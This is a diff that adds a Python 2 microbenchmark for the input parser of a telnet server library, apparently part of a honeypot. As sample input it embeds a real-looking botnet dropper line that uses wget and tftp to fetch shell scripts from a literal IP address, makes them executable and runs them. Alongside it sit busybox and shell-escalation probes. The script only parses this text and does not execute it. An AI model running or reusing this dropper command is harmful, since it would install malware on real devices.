@@ -0,0 +1,80 @@
+#!/usr/bin/env python
+
+"""
+Microbenchmark of the telnet input cooker (per input byte cost)
+
+Feeds the cooker from an in-memory socket with pasted dropper lines mixed
+with ANSI arrow keys (terminal xterm) and reports the best of 5 runs. Run
+it (from the repository's root) against different revisions to compare.
+"""
+
+import os
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), os.pardir))
+
+from thirdparty.telnetsrv.telnetsrvlib import TelnetHandlerBase
+
+LINES = ("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://185.188.206.99/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 185.188.206.99 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh\r\n", "/bin/busybox ECCHI\r\n", "\x1b[A\x1b[B\x1b[C\x1b[D", "enable\r\nsystem\r\nshell\r\nsh\r\n")
+SIZE = 184000
+RUNS = 5
+
+class FakeSocket(object):
+    def __init__(self, data):
+        self.data = data
+        self.position = 0
+
+    def recv(self, size):
+        chunk = self.data[self.position:self.position + size]
+        self.position += len(chunk)
+        return chunk
+
+    def recv_into(self, view):
+        chunk = self.data[self.position:self.position + len(view)]
+        self.position += len(chunk)
+        view[:len(chunk)] = chunk
+        return len(chunk)
+
+class Handler(TelnetHandlerBase):
+    def __init__(self):
+        self.cooked = []
+        TelnetHandlerBase.__init__(self, None, None, None)
+
+    def setup(self):
+        pass
+
+    def handle(self):
+        pass
+
+    def finish(self):
+        pass
+
+    def inputcooker_socket_ready(self):
+        return self.sock.position < len(self.sock.data)
+
+    def inputcooker_store_queue(self, char):
+        self.cooked.append(char)
+
+def main():
+    data = ""
+    while len(data) < SIZE:
+        data += "".join(LINES)
+    data = data[:SIZE]
+
+    best = None
+    for _ in xrange(RUNS):
+        handler = Handler()
+        handler.setterm("xterm")
+        handler.sock = FakeSocket(data)
+
+        start = time.time()
+        handler.inputcooker()
+        elapsed = time.time() - start
+
+        best = min(best, elapsed) if best is not None else elapsed
+
+    print "%d bytes, %d cooked items, %.2f us/byte (best of %d)" % (len(data), len(handler.cooked), 1e6 * best / len(data), RUNS)
+
+if __name__ == "__main__":
+    main()